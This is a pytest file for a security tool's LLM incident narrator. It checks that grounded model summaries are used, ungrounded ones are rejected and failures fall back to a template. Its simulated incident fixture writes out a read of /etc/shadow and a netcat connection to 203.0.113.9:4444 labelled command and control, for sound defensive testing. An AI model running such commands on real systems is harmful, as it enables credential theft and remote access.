"""The narrator against a real HTTP server on 127.0.0.1 speaking the OpenAI chat completions
shape: a grounded answer is used, ungrounded ones are rejected, failures fall back to the
template, and the pipeline never waits for the model (docs/incidents.md#the-narrator)."""

from __future__ import annotations

import time
from typing import Any

import pytest

from otelguard import semconv as S
from otelguard.processors.incidents import Config, IncidentsStage
from otelguard.processors.incidents.config import LlmConfig, StoryConfig
from otelguard.processors.incidents.narrator import Masks, Narrator, facts_of
from tests.support.fake_llm import FakeLlm
from tests.support.incidents import batch, detection, event, latest, pod, trace
from tests.support.polling import wait_until

POD = "web-6d4b9c7f5-x2x9q"
GROUNDED = {
    "title": "pod-1 read /etc/shadow, then connected to 203.0.113.9",
    "bullets": ["`cat /etc/shadow` read /etc/shadow [E1]",
                "`nc 203.0.113.9 4444` connected to 203.0.113.9:4444 [E2]",
                "T1555 then T1071: credential access chained to command and control [E1, E2]"],
    "next_steps": ["Block egress to 203.0.113.9 from namespace-1 [E2]",
                   "Rotate what /etc/shadow holds [E1]"],
}


def _with(**changes: Any) -> dict[str, Any]:
    answer = {k: list(v) if isinstance(v, list) else v for k, v in GROUNDED.items()}
    answer.update(changes)
    return answer


def _stage(url: str, timeout: float = 1.0) -> IncidentsStage:
    llm = LlmConfig(base_url=url, model="fake", api_key_env="OTELGUARD_LLM_API_KEY",
                    timeout_s=timeout)
    return IncidentsStage(Config(story=StoryConfig(llm=llm)), clock=lambda: 1000.0)


def _collect(stage: IncidentsStage, into: list[Any]) -> bool:
    into.extend(stage.drain(False))
    return bool(into)


def _incident(stage: IncidentsStage) -> None:
    tr = trace("llm")
    cat = event(S.EV_FILE_OPEN, 201, tr, ppid=200, attrs={
        S.PROCESS_EXECUTABLE_PATH: "/bin/cat", S.PROCESS_COMMAND_LINE: "cat /etc/shadow",
        S.FILE_PATH: "/etc/shadow", S.FILE_OPEN_FLAGS: "O_RDONLY"})
    nc = event(S.EV_NETWORK_CONNECT, 202, tr, ppid=200, t=5, attrs={
        S.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc", S.PROCESS_COMMAND_LINE: "nc 203.0.113.9 4444",
        S.NETWORK_PEER_ADDRESS: "203.0.113.9", S.NETWORK_PEER_PORT: 4444})
    stage.process(batch(pod(POD), [cat, nc], [
        detection(cat, "Read sensitive file untrusted", 13, "credential_access", "T1555"),
        detection(nc, "Outbound connection to C2", 17, "command_and_control", "T1071")]))


def test_answers_in_turn_grounded_used_ungrounded_rejected_failures_fall_back(
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OTELGUARD_LLM_API_KEY", "sk-test-123")
    with FakeLlm() as llm:
        stage = _stage(llm.base_url, timeout=1.0)
        _incident(stage)
        inc = stage.open_incidents()[0]
        narrator = Narrator(LlmConfig(base_url=llm.base_url, model="fake", timeout_s=1.0))
        masks = Masks()
        facts = facts_of(inc, masks)
        assert POD not in str(facts) and "pod-1" in str(facts)  # names masked before leaving
        llm.script = [
            ("answer", GROUNDED),
            ("answer", _with(bullets=[*GROUNDED["bullets"][:2],
                                      "the attacker pivoted from web-7f9c8d4b6-abcde [E1]"])),
            ("answer", _with(next_steps=["Block 198.51.100.7 [E2]"])),
            ("answer", _with(bullets=[*GROUNDED["bullets"][:2], "then read /root/.ssh/id_rsa [E1]"])),
            ("answer", _with(title="T1003.008 credential dumping in pod-1")),
            ("answer", _with(bullets=[*GROUNDED["bullets"][:2], "ran as user mallory [E1]"])),
            ("answer", _with(bullets=[*GROUNDED["bullets"][:2], "more in [E9]"])),
            ("answer", _with(bullets=["no citation here", *GROUNDED["bullets"][1:]])),
            ("answer", "{\"title\": \"cut off"),
            ("slow", 2.5, GROUNDED),
            ("status", 500),
        ]
        results = [narrator.narrate(facts, masks) for _ in range(11)]
        assert [r.result for r in results] == ["llm"] + ["rejected"] * 7 + ["template"] * 3
        used = results[0]
        assert used.title == f"{POD} read /etc/shadow, then connected to 203.0.113.9"
        assert used.next_steps[0] == "Block egress to 203.0.113.9 from shop [E2]"
        for result, word in zip(results[1:8], ["web-7f9c8d4b6-abcde", "198.51.100.7",
                                               "/root/.ssh/id_rsa", "T1003.008", "mallory",
                                               "E9", "cites no evidence"]):
            assert word in result.detail, (word, result.detail)
        assert results[8].detail.startswith("malformed")
        assert results[9].detail.startswith("timeout")
        assert results[10].detail == "error: HTTP 500"
        first = llm.requests[0]
        assert first["temperature"] == 0 and first["model"] == "fake"
        assert llm.headers[0]["Authorization"] == "Bearer sk-test-123"


def test_the_stage_never_waits_for_the_model_and_records_the_narrator() -> None:
    with FakeLlm() as llm:
        llm.script = [("slow", 1.5, GROUNDED)]
        stage = _stage(llm.base_url, timeout=5.0)
        stage.start()
        try:
            t0 = time.monotonic()
            _incident(stage)
            (attrs, _), = latest(stage.drain(False)).values()
            assert time.monotonic() - t0 < 0.5  # the model answers only after 1.5 s
            assert attrs[S.INCIDENT_NARRATOR] == "template" and attrs[S.INCIDENT_VERSION] == 1
            seen: list[Any] = []
            assert wait_until(lambda: _collect(stage, seen), 10), \
                "no narrated version within 10 s"
            (attrs, rec), = latest(seen).values()
            assert attrs[S.INCIDENT_NARRATOR] == "llm" and attrs[S.INCIDENT_VERSION] == 2
            body = rec.body.string_value
            assert f"Summary (model, checked against the evidence): {POD} read" in body
            assert "What happened:" in body  # the template story stays beside it
        finally:
            stage.shutdown()


def test_a_rejected_answer_is_recorded_on_the_incident_and_the_template_stands() -> None:
    with FakeLlm() as llm:
        llm.script = [("answer", _with(next_steps=["Block 198.51.100.7 [E2]"]))]
        stage = _stage(llm.base_url)
        stage.start()
        try:
            _incident(stage)
            stage.drain(False)
            seen: list[Any] = []
            assert wait_until(lambda: _collect(stage, seen), 10), \
                "no version after the answer"
            (attrs, rec), = latest(seen).values()
            assert attrs[S.INCIDENT_NARRATOR] == "rejected"
            assert "198.51.100.7" in str(attrs[S.INCIDENT_NARRATOR_DETAIL])
            assert "Summary" not in rec.body.string_value
        finally:
            stage.shutdown()
